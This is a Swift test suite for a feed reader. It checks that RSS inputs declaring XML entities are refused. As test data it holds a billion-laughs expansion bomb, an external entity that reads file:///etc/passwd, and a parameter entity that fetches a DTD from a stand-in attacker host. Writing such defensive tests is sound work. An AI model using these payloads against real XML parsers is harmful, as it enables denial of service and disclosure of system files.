import EventCoding
import Feeds
import Foundation
import Testing

/// Entity declarations are refused before any parsing: no expansion, no external reads.
@Suite struct EntityRefusalTests {
    static let billionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE lolz [
         <!ENTITY lol "lol">
         <!ELEMENT lolz (#PCDATA)>
         <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
         <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
         <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
         <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
         <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
         <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
         <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
         <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
         <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
        ]>
        <rss><channel><item><title>&lol9;</title><description>&lol9;</description></item></channel></rss>
        """

    @Test func billionLaughsIsRefusedQuickly() throws {
        let clock = ContinuousClock()
        var results: [Result<Document, InputError>] = []
        let elapsed = clock.measure { results = readFeed(Self.billionLaughs, name: "lol.rss") }
        #expect(elapsed < .milliseconds(200))
        #expect(results.count == 1)
        let e = try #require(failures(results).first)
        #expect(e.place == "line 3")
        #expect(e.message == "the feed declares XML entities (<!ENTITY>); refused to protect against entity expansion")
    }

    @Test func anExternalEntityIsRefused() throws {
        let xml = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
            <rss><channel><item><title>ع</title><description>&xxe;</description></item></channel></rss>
            """
        let results = readFeed(xml, name: "xxe.rss")
        #expect(results == [.failure(InputError(input: "xxe.rss", place: "line 2", message: "the feed declares XML entities (<!ENTITY>); refused to protect against entity expansion"))])
    }

    @Test func aParameterEntityIsRefused() {
        let xml = "<!DOCTYPE rss [\n<!ENTITY % dtd SYSTEM \"http://attacker.invalid/x.dtd\"> %dtd; ]><rss/>"
        #expect(failures(readFeed(xml)).map(\.place) == ["line 2"])
    }

    @Test func anExternalDTDIsNeverLoaded() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("feeds-dtd-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: dir) }
        let dtd = dir.appendingPathComponent("evil.dtd")
        try Data("<!ENTITY secret \"LOADED\">".utf8).write(to: dtd)
        let xml = "<!DOCTYPE rss SYSTEM \"\(dtd.absoluteString)\">\n<rss><channel><item><description>نص &secret;</description></item></channel></rss>"
        let results = readFeed(xml)
        #expect(!documents(results).contains { $0.text.contains("LOADED") })
        #expect(failures(results).first?.message.contains("&secret;") == true)
    }

    @Test func entityTextInsideCDATAIsNotADeclaration() {
        let xml = "<rss><channel><item><description><![CDATA[<p>مقال عن <!ENTITY></p>]]></description></item></channel></rss>"
        #expect(documents(readFeed(xml)).count == 1)
    }

    @Test func aDoctypeWithoutEntitiesIsRead() {
        let xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE rss>\n<rss><channel><item><description>نص</description></item></channel></rss>"
        #expect(documents(readFeed(xml)).map(\.text) == ["نص"])
    }
}
